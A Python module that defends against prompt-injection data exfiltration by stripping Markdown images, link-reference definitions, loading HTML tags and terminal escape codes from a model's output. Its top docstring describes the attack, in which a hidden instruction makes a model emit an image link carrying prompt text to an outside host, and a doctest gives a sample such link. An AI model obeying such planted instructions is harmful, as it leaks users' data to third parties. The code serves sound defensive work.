"""Remove pictures and HTML from a model's text: a page that rendered them would call addresses of the model's choice.

An instruction hidden in a document can make a model write ``![x](https://host/?q=...)``, with text of the prompt in the
address. Markdown pictures are removed in code too, since what is code depends on all text before. HTML in code stays.
"""

from __future__ import annotations

import re

_CAPTION = r"!\[((?:[^\[\]]|\[[^\[\]]{0,300}\]){0,300})\]"
_PICTURE = re.compile(rf"{_CAPTION}\((?:[^()]|\([^()]{{0,2000}}\)){{0,2000}}\)?")
_BEGUN = re.compile(r"(?<!!)!+\[")
_DEEPEST = 20
"""Levels of pictures in captions of pictures; deeper ones are defused."""
_DEFINITION = re.compile(
    r"^[ \t>]{0,20}\[[^\[\]\n]{1,300}\]:[ \t]*\n?[ \t>]*<?(?=[^\s>]{0,2000}[/:.])[^\s>]{1,2000}>?[^\n]{0,2000}$",
    re.MULTILINE,
)
"""The target of a picture's reference, ``![x]`` or ``![x][y]``: ``[x]: https://host/...``."""
_LOADS = (
    "img|image|picture|source|video|audio|track|iframe|frame|frameset|object|embed|applet|svg|math|script|style|link|meta"
    "|base|body|form|input|button|portal"
)
_TAG = re.compile(
    rf"<(?:/?(?:{_LOADS})(?![\w-])[^<>]{{0,2000}}(?:>|\Z)|[a-z][\w:-]{{0,40}}\s[^<>]{{0,2000}}=[^<>]{{0,2000}}>)",
    re.IGNORECASE,
)
_ESCAPE = re.compile(
    r"\x1b\[[0-9;:?]{0,40}[ -/]?[@-~]|\x1b\][^\x07\x1b\n]{0,2000}(?:\x07|\x1b\\)?|[\x00-\x08\x0b-\x1f\x7f-\x9f]"
)
"""Control sequences of terminals."""
_CODE = re.compile(r"\A(```|~~~).*\1\Z|(?<![\\`])`[^`\n]{1,300}`(?!`)", re.DOTALL)


def without_embedded(text: str) -> tuple[str, int]:
    """Replace pictures by their captions and remove tags that load; return the text and how many there were.

    Control sequences of terminals are removed too, uncounted.

    Examples
    --------
    >>> without_embedded("A cat ![of mine](//host/?q=secret) sleeps.")
    ('A cat of mine sleeps.', 1)
    >>> without_embedded("Write `<a href=x>`, not <a href=x>.")
    ('Write `<a href=x>`, not .', 1)
    """
    text, found = _without_pictures(_ESCAPE.sub("", text))
    text, count = _DEFINITION.subn("", text)
    found += count
    parts, at = list[str](), 0
    for code in _CODE.finditer(text):
        prose, count = _TAG.subn("", text[at : code.start()])
        parts += [prose, code[0]]
        found, at = found + count, code.end()
    prose, count = _TAG.subn("", text[at:])
    return "".join((*parts, prose)), found + count


def _without_pictures(text: str) -> tuple[str, int]:
    found = count = 0
    for _ in range(_DEEPEST):
        text, count = _PICTURE.subn(r"\1", text)
        found += count
        if not count:
            break
    # A picture that begins here may end in another sentence.
    head, end, tail = text.rpartition("]") if not count else ("", "", text)
    tail, begun = _BEGUN.subn("[", tail)
    return f"{head}{end}{tail}", found + begun
